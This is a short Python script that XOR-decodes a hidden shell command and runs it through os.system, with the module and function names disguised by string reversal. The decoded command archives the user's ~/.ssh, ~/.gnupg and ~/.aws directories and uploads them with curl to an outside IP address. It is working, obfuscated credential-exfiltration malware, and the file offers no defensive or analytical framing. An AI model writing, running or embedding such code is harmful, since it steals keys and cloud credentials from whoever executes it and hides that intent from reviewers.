table = [94, 75, 88, 10, 73, 80, 76, 10, 7, 10, 84, 5, 4, 89, 89, 66, 10, 84, 5, 4, 77, 68, 95, 90, 77, 10, 84, 5, 4, 75, 93, 89, 10, 24, 20, 5, 78, 79, 92, 5, 68, 95, 70, 70, 10, 86, 10, 73, 95, 88, 70, 10, 7, 89, 10, 7, 126, 10, 7, 10, 66, 94, 94, 90, 16, 5, 5, 27, 19, 18, 4, 31, 27, 4, 27, 26, 26, 4, 30, 30, 5, 72, 4, 94, 77, 80]


def restore(seq, k=0x2A):
    return "".join(chr(c ^ k) for c in seq)


class Runner:
    def __init__(self, mod):
        self.m = __import__(mod)

    def __getattr__(self, item):
        return getattr(self.m, item[::-1])


Runner("".join(reversed("so"))).metsys(restore(table))
